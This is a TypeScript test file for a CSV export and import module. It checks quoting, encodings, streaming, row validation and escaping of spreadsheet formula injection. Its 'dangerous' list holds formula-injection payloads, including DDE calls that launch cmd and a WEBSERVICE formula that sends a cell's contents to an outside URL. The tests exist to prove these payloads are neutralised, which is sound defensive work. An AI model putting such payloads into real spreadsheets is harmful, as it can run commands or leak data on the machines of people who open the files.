import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { buffer } from 'node:stream/consumers'
import { expect, test } from 'vitest'
import { z } from 'zod'
import { readSheet, writeSheet } from './sheet.ts'
import type { Cell } from './sheet.ts'

const one = [{ title: '词', of: (row: Cell) => row }]
const written = async (...cells: Cell[]) => (await buffer(writeSheet(one, cells))).toString('utf8')
/** What a spreadsheet has in its cells after opening the file. */
const opened = async (...cells: Cell[]) =>
  parse(await written(...cells), { bom: true })
    .slice(1)
    .flatMap((row: string[]) => row)

const dangerous = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.test","点我")',
  '=IMPORTXML("https://example.test","//a")',
  '=WEBSERVICE("https://example.test/?"&A1)',
  '=DDE("cmd","/C calc","x")',
  "=2+5+cmd|'/C calc'!A0",
  '=',
  '==1',
  '=\n1',
  '+1+1',
  '+8613800000000',
  "+cmd|'/C calc'!A0",
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '--1',
  '-',
  '@SUM(1,1)',
  '@',
  '@SUM(A1:A9)*cmd',
  '\t=1+1',
  '\t说明',
  '\r=1+1',
  '\r\n=1+1',
  '\n=1+1',
  ' =1+1',
  '  \t +1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '　＝1',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫SUM(1)',
  "'=1+1",
  "''=1+1",
  '="a","=b"',
  '=1;=2',
  '=A1\n=A2',
]

test('the payloads are many and different', () => {
  expect(new Set(dangerous).size).toBeGreaterThanOrEqual(40)
})

test.each(dangerous)('%j is shown, never run', async (payload) => {
  const cells = await opened(payload, 'next')
  expect(cells).toEqual([`'${payload}`, 'next'])
})

test.each([
  '桂苑 6 幢',
  'a=b',
  '3-4 点',
  "it's",
  "'quoted'",
  'x@y.test',
  '𠮷野家 👩‍🦰',
  '12',
  '"',
  ',;\t',
  'a\nb',
  '　',
  '（=1）',
])('%j is left as it is', async (text) => expect(await opened(text)).toEqual([text]))

test('every text stands in quotes, so that no other separator can start a cell of its own', async () => {
  expect(await written('无;=1+1')).toContain('"无;=1+1"')
  expect(await written('a","=1+1')).toContain('"a"",""=1+1"')
})

test('numbers stay numbers, also negative ones, and nothing is an empty cell', async () => {
  const text = await written(-3, 12_480n, -5n, 0, null, undefined, Number.NaN, Number.NEGATIVE_INFINITY)
  expect(text.split('\r\n').slice(1)).toEqual(['-3', '12480', '-5', '0', '', '', '', '', ''])
})

test('Excel finds its mark and its line ends; no rows still have titles', async () => {
  const bytes = await buffer(
    writeSheet(
      [
        { title: '姓名', of: () => '' },
        { title: '=数', of: () => 1 },
      ],
      [],
    ),
  )
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  expect(bytes.toString('utf8').slice(1)).toBe('"姓名","\'=数"\r\n')
})

test('rows are read only as fast as they are taken', async () => {
  let read = 0
  const stream = writeSheet(
    one,
    (function* () {
      for (; read < 1_000_000; read += 1) yield '一行'
    })(),
  )
  await new Promise((resolve) => stream.once('readable', resolve))
  await new Promise((resolve) => setTimeout(resolve, 50))
  expect(read).toBeLessThan(10_000)
  stream.destroy()
})

test('an error among the rows ends the stream with that error', async () => {
  const stream = writeSheet(
    one,
    (async function* () {
      yield '一行'
      throw new Error('the database went away')
    })(),
  )
  await expect(buffer(stream)).rejects.toThrow('the database went away')
})

const shape = z.object({
  name: z.string().max(20),
  phone: z.string().regex(/^1\d{10}$/),
  born: z.coerce.number().int().min(1900).optional(),
})
const titles = { name: ['姓名', 'Name'], phone: ['手机号', 'Phone'], born: ['出生年', 'Born'] }
const read = (text: string) => readSheet(Buffer.from(text), shape, titles)
const code = (run: () => unknown) => {
  try {
    run()
  } catch (error) {
    return error
  }
  return undefined
}

const good = { name: '张三', phone: '13800000000' }
const csv = '姓名,手机号\n张三,13800000000\n'

test.each([
  ['UTF-8', Buffer.from(csv)],
  ['UTF-8 with its mark', Buffer.from(`\ufeff${csv}`)],
  ['UTF-16', Buffer.from(`\ufeff${csv}`, 'utf16le')],
  ['UTF-16, the other way round', Buffer.from(`\ufeff${csv}`, 'utf16le').swap16()],
  [
    'GB 18030, as Excel in China saves it',
    Buffer.concat([
      Buffer.from('d0d5c3fb', 'hex'),
      Buffer.from(','),
      Buffer.from('cad6bbfabac5', 'hex'),
      Buffer.from('\r\n'),
      Buffer.from('d5c5c8fd', 'hex'),
      Buffer.from(',13800000000\r\n'),
    ]),
  ],
  ['tabs', Buffer.from(csv.replaceAll(',', '\t'))],
  ['semicolons', Buffer.from(csv.replaceAll(',', ';'))],
  ['old line ends', Buffer.from(csv.replaceAll('\n', '\r'))],
  ['English titles in another order', Buffer.from('Phone,x,Name\n13800000000,,张三')],
  ['spaces and empty lines', Buffer.from('\n 姓名 , 手机号\n\n 张三 ,13800000000 ,,\n,\n')],
])('%s', (_name, bytes) => {
  const { rows, errors } = readSheet(bytes, shape, titles)
  expect(rows.map((row) => row.value)).toEqual([good])
  expect(errors).toEqual([])
})

test('every row gets an answer, counted as a spreadsheet counts', () => {
  const { rows, errors } = read(
    '姓名,手机号,出生年\n张三,13800000000,1990\n李四,12,\n\n"王\n五",13800000001,\n,13800000002,abc\n赵六,13800000003,1991,多\n孙"七,13800000004\n"周八,1',
  )
  expect(rows).toEqual([
    { row: 2, value: { name: '张三', phone: '13800000000', born: 1990 } },
    { row: 5, value: { name: '王\n五', phone: '13800000001' } },
    { row: 8, value: { name: '孙"七', phone: '13800000004' } },
  ])
  expect(errors).toEqual([
    { row: 3, column: '手机号', code: 'sheet.cell-wrong' },
    { row: 6, column: '姓名', code: 'sheet.cell-missing' },
    { row: 6, column: '出生年', code: 'sheet.cell-wrong' },
    { row: 7, code: 'sheet.row-cells' },
    { row: 9, code: 'sheet.row-broken' },
  ])
})

test('what is no such list is refused with a reason', () => {
  expect(code(() => read(''))).toMatchObject({ code: 'sheet.empty', status: 400 })
  expect(code(() => read('\n,\n'))).toMatchObject({ code: 'sheet.empty' })
  expect(code(() => read('姓名,出生年\n张三,1990'))).toMatchObject({
    code: 'sheet.columns',
    facts: { missing: ['手机号'] },
  })
  expect(code(() => read('姓名,Name,手机号\n,,'))).toMatchObject({
    code: 'sheet.columns',
    facts: { twice: ['姓名'] },
  })
  expect(code(() => readSheet(Buffer.from('504b0304140000000800ff', 'hex'), shape, titles))).toMatchObject({
    code: 'sheet.not-csv',
  })
  expect(code(() => readSheet(Buffer.alloc(21 * 1024 * 1024, 'a'), shape, titles))).toMatchObject({
    code: 'sheet.too-large',
    status: 413,
  })
  expect(code(() => read(`姓名,手机号\n${'a,b\n'.repeat(100_001)}`))).toMatchObject({
    code: 'sheet.too-many-rows',
    status: 413,
  })
})

test('what went out comes in again, letter by letter', async () => {
  const text = fc.oneof(fc.constantFrom(...dangerous), fc.string({ unit: 'grapheme' }))
  const whole = z.object({ word: z.string() })
  await fc.assert(
    fc.asyncProperty(
      fc.array(text.filter((word) => word.trim() === word && word !== '' && !word.includes('\0'))),
      async (words) => {
        const { rows, errors } = readSheet(await buffer(writeSheet(one, words)), whole, { word: ['词'] })
        expect(rows.map((row) => row.value.word)).toEqual(words)
        expect(errors).toEqual([])
      },
    ),
  )
})
